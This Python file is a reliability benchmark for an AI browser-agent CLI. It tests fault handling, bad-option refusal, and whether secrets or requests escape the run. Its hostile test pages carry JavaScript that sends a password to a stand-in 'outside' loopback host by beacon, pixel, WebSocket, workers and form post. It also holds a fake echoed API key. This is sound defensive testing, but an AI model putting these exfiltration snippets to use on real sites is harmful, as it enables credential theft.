"""`agentpair bench reliability`: the real CLI run against a planner endpoint that fails in every way an
HTTP API can (two echo its key), given bad option values, and on pages that try every way out of the
run's origin and show its secret in every spelling of agentpair.bench.page_spellings. Counts what should
never happen: tracebacks, a secret or key in any output, requests that left the allowed origin,
processes left behind; and, per named case, whether it survived: a fault ended with a stop reason in a
readable trace, a bad option was refused naming itself, a spelling of the secret never came out."""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import quote

from pydantic import BaseModel

from agentpair.bench import page_spellings
from agentpair.bench.encodings import leaks
from agentpair.bench.fake_endpoint import FakeEndpoint, LoopbackServer, Reply
from agentpair.bench.soak import descendants
from agentpair.tracing.reader import TraceError, load_trace

SECRET = 'Open Sesame/42 "vault" & <key>'  # a space, a slash, quotes, & and brackets: every encoding differs
API_KEY = "sk-bench/Zq7+Walrus19"  # the planner's key, which two faults echo in their error text
GOAL = "Sign in to the Vault as vault.user with password {{secret:password}}, then sign out."


def plan(*steps: dict[str, Any]) -> str:
    return json.dumps({"thought": "scripted", "steps": list(steps)})


def act(tool: str, instruction: str) -> dict[str, Any]:
    return {"kind": "act", "tool": tool, "instruction": instruction}


# the planner of the hostile run: sign in, then take every way out the page offers, one a plan (a
# refused step ends its plan), then finish
WALK = [plan(act("type", "type vault.user into the Username field"),
             act("type", "type {{secret:password}} into the Password field"), act("click", "click the Sign in button")),
        *(plan(act("click", f"click the {name}")) for name in (
            "Partner offers link", "Open partner button", "Continue button", "Send feedback button", "Account help link")),
        plan({"kind": "finish", "instruction": "the goal is done", "answer": "signed in"})]
FAULTS: dict[str, Reply] = {
    "429 with Retry-After": Reply(429, headers={"Retry-After": "1"}, body={"error": {"message": "slow down"}}),
    "500": Reply(500, body={"error": {"message": "internal error"}}),
    "hang": Reply(delay_s=30.0, content=WALK[0]),
    "connection reset": Reply(reset=True),
    "malformed JSON": Reply(raw=b'{"choices": [{"message": '),
    "HTML body": Reply(raw=b"<html><body>Bad gateway</body></html>", content_type="text/html"),
    "empty choices": Reply(body={"id": "c1", "object": "chat.completion", "choices": []}),
    "not a plan": Reply(content="Sure! I would click the button."),
    "401 echoing the API key": Reply(401, body={"error": {"message": f"Incorrect API key provided: {API_KEY}"}}),
    "500 echoing the API key encoded": Reply(500, body={"error": {"message": f"upstream refused {quote(API_KEY)} "
                                                                            f"({json.dumps(API_KEY)})"}}),
}
# bad values, each refused before anything starts: the arguments after `agentpair run hostile --json`
# ({tmp} a folder), and the environment; the option or variable the error must name comes first
BAD_OPTIONS: dict[str, tuple[list[str], dict[str, str]]] = {
    "--max-steps -1": (["--max-steps", "-1"], {}),
    "--max-steps 0": (["--max-steps", "0"], {}),
    "--trace on a folder": (["--trace", "{tmp}"], {}),
    "--trace where no file can be made": (["--trace", "/proc/agentpair/x.jsonl"], {}),
    "--planner-base-url 'not a url'": (["--planner-base-url", "not a url"], {}),
    "--planner-timeout nan": (["--planner-timeout", "nan"], {}),
    "--run-timeout -1": (["--run-timeout", "-1"], {}),
    "OPENAI_BASE_URL 'localhost:8080'": ([], {"OPENAI_BASE_URL": "localhost:8080"}),
}


def site(outside: str) -> dict[str, str]:
    """The hostile pages: a sign-in form sent by GET (the password lands in the URL), and a welcome
    page that shows it back in every spelling of agentpair.bench.page_spellings and reaches for the
    outside origin every way (itself, from its workers, dedicated, shared and service, by prefetch and
    preconnect)."""
    show = page_spellings.script("shown")
    leave = (f'new WebSocket("{outside.replace("http", "ws")}/socket"); '
             f'fetch("{outside}/beacon?pw=" + encodeURIComponent(pw)).catch(() => {{}}); '
             f'new Image().src = "{outside}/pixel?pw=" + encodeURIComponent(pw); new EventSource("{outside}/stream"); '
             'new Worker("worker.js"); new SharedWorker("shared.js"); navigator.serviceWorker.register("sw.js");')
    links = f'<link rel="prefetch" href="{outside}/prefetch"><link rel="preconnect" href="{outside}">'
    return {
        "index.html": '<!doctype html><title>Vault sign in</title><h1>Vault</h1><form action="welcome.html">'
                      '<label>Username <input name="user"></label><label>Password <input name="pw" type="password">'
                      '</label><button type="submit">Sign in</button></form>',
        "welcome.html": f'<!doctype html><title>Vault</title>{links}<h1>Welcome</h1><div id="shown"></div><script>'
                        'const pw = new URLSearchParams(location.search).get("pw") || ""; '
                        f'{show} {leave}</script><iframe src="{outside}/frame"></iframe>'
                        f'<a href="{outside}/leave">Partner offers</a>'
                        f'<button onclick="window.open(\'{outside}/popup\')">Open partner</button>'
                        f'<button onclick="location.href = \'{outside}/jump?pw=\' + encodeURIComponent(pw)">Continue'
                        f'</button><form action="{outside}/collect" method="post"><input type="hidden" name="pw" '
                        'id="copy"><button>Send feedback</button></form><a href="help.html">Account help</a>'
                        '<a href="index.html">Sign out</a><script>document.getElementById("copy").value = pw;</script>',
        "help.html": f'<!doctype html><meta http-equiv="refresh" content="0;url={outside}/meta"><h1>Help</h1>',
        "worker.js": leave_from_worker(outside, "worker"), "shared.js": leave_from_worker(outside, "shared"),
        "sw.js": f'fetch("{outside}/service-worker").catch(() => {{}});',
    }


def leave_from_worker(outside: str, kind: str) -> str:
    """A worker's ways out, which the page's own routes do not see."""
    return (f'fetch("{outside}/{kind}-fetch").catch(() => {{}}); new WebSocket("{outside.replace("http", "ws")}/{kind}'
            f'-socket"); new EventSource("{outside}/{kind}-stream");')


def write_scenario(root: Path, outside: str) -> None:
    folder = root / "hostile"
    (folder / "site").mkdir(parents=True)
    for name, html in site(outside).items():
        (folder / "site" / name).write_text(html)
    (folder / "scenario.toml").write_text(
        f'description = "Pages that try every way out and show the secret in every encoding."\n'
        f'goal = {json.dumps(GOAL)}\nmax_steps = 12\n\n[secrets]\npassword = {json.dumps(SECRET)}\n\n'
        '[success]\ntext_contains = ["Welcome"]\n')


class Outside(LoopbackServer):
    """The origin the run must never reach: a loopback server that counts every request to it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        outside = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def _hit(self) -> None:
                outside.hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = _hit

        super().__init__(Handler)


class RunOutcome(BaseModel):
    case: str
    exit_code: int
    stop_reason: str | None
    trace_readable: bool
    tracebacks: int
    secret_occurrences: int
    key_occurrences: int

    @property
    def survived(self) -> bool:
        return (self.exit_code in (0, 1) and self.trace_readable and bool(self.stop_reason) and not self.tracebacks
                and not self.secret_occurrences and not self.key_occurrences)

    def line(self) -> str:
        return (f"{self.case}: exit {self.exit_code}, stop {self.stop_reason!r}, tracebacks {self.tracebacks}, "
                f"secret occurrences {self.secret_occurrences}, key occurrences {self.key_occurrences}")


class OptionOutcome(BaseModel):
    """A bad option value given to the CLI: refused as a usage error naming it, or not."""

    case: str
    exit_code: int
    named: bool
    tracebacks: int

    @property
    def survived(self) -> bool:
        return self.exit_code == 2 and self.named and not self.tracebacks

    def line(self) -> str:
        return f"bad option {self.case}: exit {self.exit_code}, named {self.named}, tracebacks {self.tracebacks}"


class SpellingOutcome(BaseModel):
    """One spelling of the secret the hostile page showed: how often it came out of the run."""

    case: str
    occurrences: int

    @property
    def survived(self) -> bool:
        return not self.occurrences

    def line(self) -> str:
        return f"secret as {self.case}: {self.occurrences} occurrences"


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else []
    return [text for _, item in items for text in _strings(item)]


def _trace_text(trace: Path) -> str:
    """The trace as written, and the strings its records hold, unescaped."""
    raw = trace.read_text(errors="replace") if trace.exists() else ""
    records = []
    for line in raw.splitlines():
        try:
            records.append(json.loads(line))
        except json.JSONDecodeError:
            pass
    return "\n".join([raw, *_strings(records)])


def run_cli(case: str, endpoint: FakeEndpoint, scenarios_dir: Path, trace: Path) -> tuple[RunOutcome, str]:
    """`agentpair run hostile` against the endpoint, in a process of its own: what it left behind, and
    every text that came out of it (printed, traced, sent to the planner)."""
    env = {**os.environ, "AGENTPAIR_SCENARIOS": str(scenarios_dir), "OPENAI_API_KEY": API_KEY}
    cmd = [sys.executable, "-m", "agentpair.cli.main", "run", "hostile", "--json", "--trace", str(trace),
           "--planner-base-url", endpoint.base_url, "--planner-model", "fake", "--planner-timeout", "3"]
    proc = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=300)
    try:
        tree = load_trace(trace)
        stop, readable = tree.root.attr("agentpair.stop_reason") if tree.root else None, True
    except (TraceError, OSError):
        stop, readable = None, False
    sent = [message.get("content", "") for r in endpoint.requests for message in r["body"].get("messages", [])]
    outputs = "\n".join([proc.stdout, proc.stderr, _trace_text(trace), *map(str, sent)])
    return RunOutcome(case=case, exit_code=proc.returncode, stop_reason=stop, trace_readable=readable,
                      tracebacks=outputs.count("Traceback (most recent call last)"),
                      secret_occurrences=leaks(outputs, SECRET), key_occurrences=leaks(outputs, API_KEY)), outputs


def refused_option(case: str, scenarios_dir: Path) -> OptionOutcome:
    """`agentpair run hostile --json` with a bad option value or environment variable."""
    args, variables = BAD_OPTIONS[case]
    env = {**os.environ, "AGENTPAIR_SCENARIOS": str(scenarios_dir), **variables}
    cmd = [sys.executable, "-m", "agentpair.cli.main", "run", "hostile", "--json",
           *(a.format(tmp=scenarios_dir) for a in args)]
    proc = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=120)
    said = " ".join((proc.stdout + proc.stderr).split())
    return OptionOutcome(case=case, exit_code=proc.returncode, named=(args or list(variables))[0] in said,
                         tracebacks=said.count("Traceback (most recent call last)"))


class ReliabilityReport(BaseModel):
    runs: list[RunOutcome]
    bad_options: list[OptionOutcome]
    spellings: list[SpellingOutcome]
    faults_total: int  # every named case: planner faults, bad options, spellings of the secret
    faults_survived: int
    tracebacks: int
    secret_occurrences: int
    key_occurrences: int
    off_origin_requests: int
    off_origin: list[str]
    stray_processes: int

    @property
    def clean(self) -> bool:
        return (self.faults_survived == self.faults_total and not self.tracebacks and not self.secret_occurrences
                and not self.key_occurrences and not self.off_origin_requests and not self.stray_processes)


def bench_reliability(on_case: Any = print) -> ReliabilityReport:
    """Every case in turn, each reported to `on_case` as it ends (its `.line()` says how it went)."""
    before = set(descendants(os.getpid()))
    runs, options, texts = [], [], []
    with Outside() as outside, tempfile.TemporaryDirectory(prefix="agentpair-reliability-") as tmp:
        root = Path(tmp)
        write_scenario(root / "scenarios", outside.url)
        for case in BAD_OPTIONS:
            options.append(refused_option(case, root / "scenarios"))
            on_case(options[-1])
        cases = {"hostile pages": [Reply(content=text) for text in WALK], **{k: [v] for k, v in FAULTS.items()}}
        for case, replies in cases.items():
            with FakeEndpoint(replies) as endpoint:
                outcome, text = run_cli(case, endpoint, root / "scenarios", root / f"{len(runs)}.jsonl")
            runs.append(outcome)
            texts.append(text)
            on_case(outcome)
        hits = list(outside.hits)
    spellings = [SpellingOutcome(case=name, occurrences=sum(t.count(spell(SECRET)) for t in texts))
                 for name, (_, spell) in page_spellings.SPELLINGS.items()]
    for spelling in spellings:
        on_case(spelling)
    named = [*(r for r in runs if r.case in FAULTS), *options, *spellings]
    return ReliabilityReport(
        runs=runs, bad_options=options, spellings=spellings, faults_total=len(named),
        faults_survived=sum(c.survived for c in named), tracebacks=sum(c.tracebacks for c in [*runs, *options]),
        secret_occurrences=sum(r.secret_occurrences for r in runs), key_occurrences=sum(r.key_occurrences for r in runs),
        off_origin_requests=len(hits), off_origin=hits, stray_processes=len(set(descendants(os.getpid())) - before))


def main(args: argparse.Namespace) -> int:
    from rich.console import Console

    console = Console(stderr=True)
    report = bench_reliability(lambda case: console.print(
        f"{'pass' if case.survived else 'FAIL'}  {case.line()}", highlight=False))
    if args.json:
        print(report.model_dump_json(indent=2))
    else:
        console.print(report.model_dump(exclude={"runs", "bad_options", "spellings"}))
    return 0 if report.clean else 1
